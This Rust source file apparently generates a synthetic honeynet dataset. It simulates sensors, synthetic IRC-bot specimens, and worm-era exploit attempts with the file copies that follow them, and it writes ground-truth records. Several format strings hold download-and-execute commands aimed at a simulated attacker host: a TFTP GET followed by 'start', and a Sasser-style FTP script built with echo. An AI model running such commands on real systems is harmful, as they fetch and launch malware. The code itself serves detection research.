//! Planning the honeynet: sensor addresses, specimens, exploit attempts
//! with the copies that follow them, and the inputs of the background and
//! resolver writers.

use super::*;
use crate::draw::{flow, free_port, pick, public_ip, word};
use crate::specimen::{BotConfig, BotServer, ConfigEncoding, Packer, SpecimenSpec};
use crate::truth::*;
use botscope_core::{FlowKey, Proto, Ts};
use rand::Rng;
use sha2::{Digest, Sha256};
use std::collections::BTreeSet;
use std::io;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;

/// The bind shell port exploits open for a typed fetch (Blaster's 4444).
pub(super) const SHELL_PORT: u16 = 4444;

/// The FTP server port of Sasser's infecting hosts.
pub(super) const SASSER_FTP_PORT: u16 = 5554;

/// How long before the fetch the shell connection opens, µs.
pub(super) const SHELL_LEAD_US: i64 = 1_200_000;

/// How a copy is started (issue 15, classes 2 and 3).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum CopyStart {
    /// Decided from the copy's own ports, with no draw from the stream
    /// (honeynet attempts): see [`copy_shape`].
    ByPorts,
    /// As the method says, never typed.
    Plain,
    /// Typed into the exploit's bind shell: an FTP fetch (reverse
    /// connection) from `ftp_port` in active or passive mode, or a TFTP
    /// GET (`ftp_port` unused).
    Shell { ftp_port: Option<u16>, active: bool },
}

/// What a copy looks like on the wire.
#[derive(Clone, Debug)]
pub(super) struct CopyShape {
    /// `tftp`, `ftp` or `tcp`.
    via: &'static str,
    /// FTP data connection opened by the infecting host (PORT).
    active: bool,
    /// FTP server port replacing the drawn one.
    ftp_port: Option<u16>,
    /// The command line typed into the bind shell.
    typed: Option<String>,
}

/// Decides a copy's shape. Honeynet attempts (`ByPorts`) take it from the
/// ports already drawn: a reverse connection to an even port is an FTP
/// fetch (passive, as before); half of those (even victim port) were typed
/// into a bind shell, and of these the ones whose victim port is 2 mod 4
/// use active mode and the others Sasser's FTP port 5554; a quarter of the
/// TFTP GETs (victim port 0 mod 4) were typed too. Share access never
/// binds a shell (its AT job is the instruction).
pub(super) fn copy_shape(
    method: CopyMethod,
    vector: Vector,
    f: FlowKey,
    start: CopyStart,
    filename: &str,
) -> CopyShape {
    let shell_ok = vector != Vector::ShareAccess;
    let mut sh = CopyShape {
        via: "tcp",
        active: false,
        ftp_port: None,
        typed: None,
    };
    let attacker = f.resp_h;
    match method {
        CopyMethod::TcpPush => {}
        CopyMethod::TftpGet => {
            sh.via = "tftp";
            let typed = match start {
                CopyStart::ByPorts => shell_ok && f.orig_p.is_multiple_of(4),
                CopyStart::Plain => false,
                CopyStart::Shell { .. } => true,
            };
            if typed {
                sh.typed = Some(format!("tftp -i {attacker} GET {filename}"));
            }
        }
        CopyMethod::ReverseConnect => {
            let (ftp, typed) = match start {
                CopyStart::ByPorts => {
                    let ftp = f.resp_p.is_multiple_of(2);
                    (ftp, ftp && shell_ok && f.orig_p.is_multiple_of(2))
                }
                CopyStart::Plain => (f.resp_p.is_multiple_of(2), false),
                CopyStart::Shell { ftp_port, active } => {
                    sh.ftp_port = ftp_port;
                    sh.active = active;
                    (true, true)
                }
            };
            if ftp {
                sh.via = "ftp";
            }
            if typed {
                if start == CopyStart::ByPorts {
                    sh.active = f.orig_p % 4 == 2;
                    if !sh.active {
                        sh.ftp_port = Some(SASSER_FTP_PORT);
                    }
                }
                let port = sh.ftp_port.unwrap_or(f.resp_p);
                sh.typed = Some(format!(
                    "echo open {attacker} {port} > o & echo user 1 1 >> o & echo binary >> o & echo get {filename} >> o & echo bye >> o & ftp -n -s:o"
                ));
            }
        }
    }
    sh
}

impl Gen {
    pub(super) fn plan_sensors(&mut self) {
        let prefixes = crate::draw::ISP_PREFIXES;
        let mut set = BTreeSet::new();
        let mut list = Vec::new();
        while list.len() < self.cfg.addresses as usize {
            let (a, b) = prefixes[self.rng.random_range(0..prefixes.len())];
            let ip = Ipv4Addr::new(
                a,
                b,
                self.rng.random_range(1..=254),
                self.rng.random_range(2..=253),
            );
            // Non-contiguous: no two sensors in the same /28.
            let key = u32::from(ip) >> 4;
            if set.insert(key) {
                list.push(ip);
            }
        }
        self.t.sensors = list;
    }

    pub(super) fn cc_name(&mut self) -> String {
        let sfx = DDNS_SUFFIXES[self.rng.random_range(0..DDNS_SUFFIXES.len())];
        let name = format!(
            "{}{}.{}",
            word(&mut self.rng, 5),
            self.rng.random_range(1..99),
            sfx
        );
        if !self.cc.contains_key(&name) {
            // Table 6: 19 % of names carry several addresses (up to 5).
            let n = if self.rng.random_bool(0.19) {
                self.rng.random_range(2..=5)
            } else {
                1
            };
            let addrs = (0..n).map(|_| public_ip(&mut self.rng)).collect();
            self.cc.insert(name.clone(), addrs);
            let h = format!("{}{}", word(&mut self.rng, 4), self.rng.random_range(0..99));
            self.herder.insert(name.clone(), h);
        }
        name
    }

    pub(super) fn irc_port(&mut self) -> u16 {
        let mut w: Vec<f64> = IRC_PORTS.iter().map(|p| p.1).collect();
        w.push(3.0);
        let i = pick(&mut self.rng, &w);
        if i < IRC_PORTS.len() {
            IRC_PORTS[i].0
        } else {
            IRC_OTHER_PORTS[self.rng.random_range(0..IRC_OTHER_PORTS.len())]
        }
    }

    pub(super) fn plan_specimens(&mut self) {
        let n_spec = self.n(10.0).clamp(4, 400);
        let n_bots = self.n(4.0).max(2);
        for i in 0..(n_spec + n_bots) {
            let nserv = if i == 0 || self.rng.random_bool(0.19) {
                self.rng.random_range(2..=3)
            } else {
                1
            };
            let mut servers = Vec::new();
            for _ in 0..nserv {
                let host = self.cc_name();
                let port = self.irc_port();
                servers.push(BotServer { host, port });
            }
            let clen = self.rng.random_range(3..7);
            let channel = format!("#{}", word(&mut self.rng, clen));
            let key = if self.rng.random_bool(0.7) {
                Some(word(&mut self.rng, 6))
            } else {
                None
            };
            let nick_prefix =
                ["JPN|", "[XP]", "USA|", "bot-", "r00t|"][self.rng.random_range(0..5)].to_string();
            let encoding = match self.rng.random_range(0..4) {
                0 | 1 => ConfigEncoding::Plain,
                2 => ConfigEncoding::Xor(self.rng.random_range(1..=255)),
                _ => ConfigEncoding::Utf16,
            };
            let packer = match self.rng.random_range(0..5) {
                0 | 1 => Packer::None,
                2 => Packer::Nrv2b,
                3 => Packer::Nrv2d,
                _ => Packer::Nrv2e,
            };
            let spec = SpecimenSpec {
                config: BotConfig {
                    servers,
                    channel,
                    key,
                    nick_prefix,
                },
                encoding,
                packer,
                family: (i % 5) as u32,
                variant: (i / 5) as u32,
                seed: self.rng.random(),
            };
            let bytes = crate::specimen::build_specimen(&spec);
            let sha = hex::encode(Sha256::digest(&bytes));
            self.specs.push(Spec {
                truth: SpecimenTruth {
                    id: i as u32,
                    path: format!("specimens/{sha}.bin"),
                    sha256: sha,
                    size: bytes.len() as u64,
                    family: spec.family,
                    variant: spec.variant,
                    encoding,
                    packer,
                    config: spec.config,
                    // Table 2: ~20 % of kinds are known to AV.
                    known: i % 5 == 0,
                    built_by_specimen_builder: true,
                },
                bytes,
            });
        }
    }

    pub(super) fn write_specimens(&mut self, out: &Path) -> io::Result<()> {
        for s in &self.specs {
            let p = out.join(&s.truth.path);
            if p.exists() {
                let mut perm = std::fs::metadata(&p)?.permissions();
                #[allow(clippy::permissions_set_readonly_false)]
                perm.set_readonly(false);
                std::fs::set_permissions(&p, perm)?;
            }
            std::fs::write(&p, &s.bytes)?;
            #[cfg(unix)]
            {
                use std::os::unix::fs::PermissionsExt;
                std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o444))?;
            }
            self.t.specimens.push(s.truth.clone());
        }
        // The antivirus vendor's release current when the field began: the
        // specimens "known to AV" of Table 2, as a ClamAV SHA-256 hash list
        // (`sha256:size:name`), the form `specimen set add` reads.
        let mut hsb = String::new();
        for s in self.specs.iter().filter(|s| s.truth.known) {
            hsb.push_str(&format!(
                "{}:{}:Synthetic.IrcBot.F{}V{}\n",
                s.truth.sha256, s.truth.size, s.truth.family, s.truth.variant
            ));
        }
        let av = out.join(AV_SIGNATURES);
        if let Some(dir) = av.parent() {
            std::fs::create_dir_all(dir)?;
        }
        std::fs::write(av, &hsb)?;
        self.t.files.push(FileTruth {
            path: AV_SIGNATURES.into(),
            kind: "antivirus signatures at the field's start (hash list)".into(),
            packets: 0,
            bytes: hsb.len() as u64,
        });
        Ok(())
    }

    /// Picks the specimen an attacker spreads: known ones 90 % of the time.
    pub(super) fn exploit_specimen(&mut self) -> u32 {
        let n_spec = self.n(10.0).clamp(4, 400);
        let known: Vec<u32> = (0..n_spec as u32).filter(|i| i % 5 == 0).collect();
        let unknown: Vec<u32> = (0..n_spec as u32).filter(|i| i % 5 != 0).collect();
        if self.rng.random_bool(0.9) || unknown.is_empty() {
            known[self.rng.random_range(0..known.len())]
        } else {
            unknown[self.rng.random_range(0..unknown.len())]
        }
    }

    #[allow(clippy::too_many_arguments)]
    pub(super) fn add_exploit(
        &mut self,
        ts: i64,
        attacker: Ipv4Addr,
        victim: Ipv4Addr,
        vector: Vector,
        cap: Cap,
        copy: Option<(CopyMethod, bool, u32)>,
        start: CopyStart,
    ) -> u32 {
        let file = match cap {
            Cap::Exploits => "pcap/honeynet-exploits.pcap",
            Cap::Infected => "pcap/infected.pcap",
        }
        .to_string();
        let sport = free_port(&mut self.rng, 1025, 5000);
        let (ports, proto_) = match vector {
            Vector::Ms03_026 | Vector::Ms03_039 => (vec![135], Proto::Tcp),
            Vector::Ms03_043 => (vec![135], Proto::Udp),
            Vector::Ms02_045 => (vec![139], Proto::Tcp),
            _ => (vec![445], Proto::Tcp),
        };
        let idx = self.t.exploits.len() as u32;
        let copy_id = copy.map(|_| self.t.copies.len() as u32);
        let filename = format!(
            "{}.exe",
            [
                "msblast",
                "wins",
                "svchost32",
                "msnmsgr",
                "winupd",
                "lsass32"
            ][self.rng.random_range(0..6)]
        );
        let mut instruction = None;
        if let Some((method, _, _)) = copy {
            if method == CopyMethod::TftpGet {
                instruction = Some(format!(
                    "cmd /c tftp -i {attacker} GET {filename} & start {filename}"
                ));
            }
        }
        let (credentials, share) = if vector == Vector::ShareAccess {
            let pw = WEAK_PASSWORDS[self.rng.random_range(0..WEAK_PASSWORDS.len())].to_string();
            let acct = ["administrator", "admin", "guest"][self.rng.random_range(0..3)].to_string();
            let share = if self.rng.random_bool(0.5) {
                "ADMIN$"
            } else {
                "C$"
            };
            (Some((acct, pw)), Some(share.to_string()))
        } else {
            (None, None)
        };
        self.t.exploits.push(ExploitTruth {
            id: idx,
            file: file.clone(),
            ts: Ts(ts),
            attacker,
            victim,
            vector,
            ports: ports.clone(),
            flow: flow(attacker, sport, victim, ports[0], proto_),
            instruction,
            credentials,
            share,
            copy: copy_id,
        });
        self.jobs.push((ts, cap, Job::Exploit { idx }));
        if let Some((method, success, specimen)) = copy {
            let tc = ts + self.rng.random_range(2_000_000..8_000_000);
            let s = &self.specs[specimen as usize].truth;
            let (sha, size) = (s.sha256.clone(), s.size);
            let f = match method {
                CopyMethod::TftpGet => flow(
                    victim,
                    free_port(&mut self.rng, 1025, 5000),
                    attacker,
                    69,
                    Proto::Udp,
                ),
                CopyMethod::TcpPush => flow(
                    attacker,
                    free_port(&mut self.rng, 1025, 5000),
                    victim,
                    free_port(&mut self.rng, 1024, 65000),
                    Proto::Tcp,
                ),
                CopyMethod::ReverseConnect => flow(
                    victim,
                    free_port(&mut self.rng, 1025, 5000),
                    attacker,
                    free_port(&mut self.rng, 1024, 65000),
                    Proto::Tcp,
                ),
            };
            let cid = self.t.copies.len() as u32;
            let shape = copy_shape(method, vector, f, start, &filename);
            let mut f = f;
            if let Some(p) = shape.ftp_port {
                f.resp_p = p;
            }
            let ftp = (shape.via == "ftp").then(|| {
                let (v, a) = (victim, attacker);
                FtpFetchTruth {
                    mode: if shape.active { "active" } else { "passive" }.into(),
                    data_flow: if shape.active {
                        flow(a, 20, v, f.orig_p + 1, Proto::Tcp)
                    } else {
                        flow(v, f.orig_p + 1, a, f.resp_p + 1, Proto::Tcp)
                    },
                }
            });
            // A typed fetch starts with the shell the exploit bound, 1.2 s
            // before the fetch; the exploit then carries no instruction.
            let shell = shape.typed.map(|typed| {
                self.t.exploits[idx as usize].instruction = None;
                ShellTruth {
                    flow: flow(attacker, sport + 1, victim, SHELL_PORT, Proto::Tcp),
                    ts: Ts(tc - SHELL_LEAD_US),
                    typed,
                }
            });
            let job_t = shell.as_ref().map_or(tc, |_| tc - SHELL_LEAD_US);
            self.t.copies.push(CopyTruth {
                id: cid,
                file,
                exploit: idx,
                ts: Ts(tc),
                method,
                flow: f,
                filename,
                sha256: sha,
                size,
                success,
                specimen,
                via: shape.via.into(),
                ftp,
                shell,
            });
            self.jobs.push((job_t, cap, Job::Copy { idx: cid }));
        }
        idx
    }

    pub(super) fn plan_exploits(&mut self) {
        let n = self.n(120.0 * self.cfg.days as f64).max(7);
        let start = self.cfg.start_us;
        let span = self.end_us() - start - 60_000_000;
        let attackers: Vec<Ipv4Addr> = (0..(n / 3).max(3))
            .map(|_| public_ip(&mut self.rng))
            .collect();
        let mut copies_planned = 0usize;
        for i in 0..n {
            // Every vector and copy method appears at least once.
            let vector = if i < 7 {
                Vector::ALL[i]
            } else {
                Vector::ALL[pick(&mut self.rng, &VECTOR_WEIGHTS)]
            };
            let ts = start + self.rng.random_range(0..span);
            let attacker = attackers[self.rng.random_range(0..attackers.len())];
            let victim = self.t.sensors[self.rng.random_range(0..self.t.sensors.len())];
            // The first reverse connection (after MS04-011, the second
            // attempt) is Sasser's: a typed FTP script, the infecting
            // host's FTP server on 5554, passive mode.
            let start = if copies_planned == 1 {
                CopyStart::Shell {
                    ftp_port: Some(SASSER_FTP_PORT),
                    active: false,
                }
            } else {
                CopyStart::ByPorts
            };
            let copy = if i < 7 || self.rng.random_bool(0.85) {
                let method = if copies_planned < 3 {
                    [
                        CopyMethod::TftpGet,
                        CopyMethod::ReverseConnect,
                        CopyMethod::TcpPush,
                    ][copies_planned]
                } else {
                    [
                        CopyMethod::TftpGet,
                        CopyMethod::TcpPush,
                        CopyMethod::ReverseConnect,
                    ][pick(&mut self.rng, &COPY_WEIGHTS)]
                };
                copies_planned += 1;
                let success = self.rng.random_bool(if method == CopyMethod::TftpGet {
                    0.93
                } else {
                    0.97
                });
                let sp = self.exploit_specimen();
                Some((method, success, sp))
            } else {
                None
            };
            self.add_exploit(ts, attacker, victim, vector, Cap::Exploits, copy, start);
        }
    }

    pub(super) fn plan_background(&mut self) -> BackgroundPlan {
        let sources: Vec<Ipv4Addr> = (0..2000).map(|_| public_ip(&mut self.rng)).collect();
        BackgroundPlan {
            sources,
            seed: self.rng.random(),
        }
    }

    pub(super) fn resolver_spec(&self) -> crate::resolver::ResolverSpec {
        use crate::resolver::{Format, ResolverSpec};
        let mut cc_names: Vec<String> = self.cc.keys().cloned().collect();
        cc_names.sort();
        cc_names.dedup();
        ResolverSpec {
            seed: self.cfg.seed ^ 0x5e50_1fe5,
            clients: ((self.cfg.resolver_clients as f64) * self.cfg.scale)
                .round()
                .max(100.0) as u32,
            infected_fraction: self.cfg.infected_fraction,
            days: self.cfg.days,
            cc_names,
            formats: vec![
                Format::Bind,
                Format::Unbound,
                Format::ZeekTsv,
                Format::Dnstap,
            ],
            start_ts: self.cfg.start_us / 1_000_000,
            resolver: IpAddr::V4(self.resolver_ip),
            ..ResolverSpec::default()
        }
    }
}
